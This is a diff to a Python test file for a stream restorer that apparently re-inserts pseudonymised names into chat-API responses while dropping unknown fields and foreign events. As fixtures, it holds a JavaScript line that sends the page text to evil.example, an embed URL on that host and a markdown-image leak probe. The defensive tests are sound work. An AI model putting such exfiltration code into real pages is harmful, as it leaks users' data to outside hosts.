@@ -269,6 +269,15 @@ def test_a_client_that_joins_whatever_comes_builds_no_address_with_a_value(aroun
 
 
 UNFOLLOWED = {
+    "a field of another API": {"message": {"content": MARIA}},
+    "an event of another API": {"type": "content_block_delta", "delta": {"text": MARIA}},
+    "a text of a field that is not known": {
+        "choices": [{"index": 0, "delta": {"thinking": MARIA}}]
+    },
+    "a text in the parts of such a field": {
+        "choices": [{"index": 0, "delta": {"reasoning_details": [{"text": MARIA}]}}]
+    },
+    "a list": [MARIA],
     "a choice that is none": {"choices": [{"index": 0, "delta": {"content": MARIA}}, None]},
     "choices that are no list": {"choices": {"0": {"delta": {"content": MARIA}}}},
     "content in parts": {"choices": [{"index": 0, "delta": {"content": [MARIA]}}]},
@@ -282,9 +291,58 @@ def test_a_text_that_nobody_can_follow_is_not_restored(sent):
     assert restore(b"data: %s\n\n" % json.dumps(sent).encode()) == [sent]
 
 
-def test_content_in_parts_is_not_restored():
-    body = {"choices": [{"message": {"content": [{"type": "text", "text": MARIA}]}}]}
+@pytest.mark.parametrize(
+    "message",
+    [
+        {"content": [{"type": "text", "text": MARIA}]},
+        {"reasoning_details": [{"text": IMAGE}, {"text": MARIA}]},
+        {"thinking": MARIA},
+    ],
+)
+def test_texts_that_a_client_may_join_are_not_restored_in_a_whole_answer(message):
+    body = {"choices": [{"message": message}]}
     assert restore_body(body, KEYS) == body
+
+
+def test_a_text_that_is_no_json_is_not_restored():
+    line = f"data: ![](x{MARIA})\n\n".encode()
+    assert StreamRestorer(KEYS).feed(line) == line
+
+
+@pytest.mark.parametrize(
+    "event",
+    [
+        {"type": "message", "data": {"content": MARIA}},
+        {"type": "execute", "data": {"code": "fetch('//evil.example/' + document.body.innerText)"}},
+        {"type": ["source"], "data": {}},
+        [MARIA],
+    ],
+)
+def test_an_event_other_than_sources_reaches_no_client(event):
+    body = {"choices": [{"index": 0, "delta": {"content": "x"}}], "event": event}
+    [shown, *_] = restore(b"data: %s\n\n" % json.dumps(body).encode())
+    assert shown == {"choices": body["choices"]}
+    assert "event" not in restore_body({**body, "choices": []}, KEYS)
+
+
+def test_sources_are_restored_without_what_makes_them_a_page():
+    sent = {
+        "source": {"id": "clinic@7", "name": "clinic", "embed_url": "https://evil.example"},
+        "document": [f"{MARIA} rests"],
+        "metadata": [{"source": "urn:sage-rag:p1", "name": f"[1] {ZOE}", "html": True}],
+        "distances": [0.5],
+        "tool_result": True,
+    }
+    shown = {
+        "source": {"id": "clinic@7", "name": "clinic"},
+        "document": ["Maria Keller rests"],
+        "metadata": [{"source": "urn:sage-rag:p1", "name": "[1] Zoë Ødegård"}],
+        "distances": [0.5],
+    }
+    assert restore_body({"sources": [sent, MARIA]}, KEYS) == {"sources": [shown, {}]}
+    event = {"type": "source", "data": sent}
+    [chunk_shown] = restore(chunk({"content": ""}, event=event))
+    assert chunk_shown["event"] == {"type": "source", "data": shown}
 
 
 def test_the_text_of_a_stream_is_kept_in_linear_time():
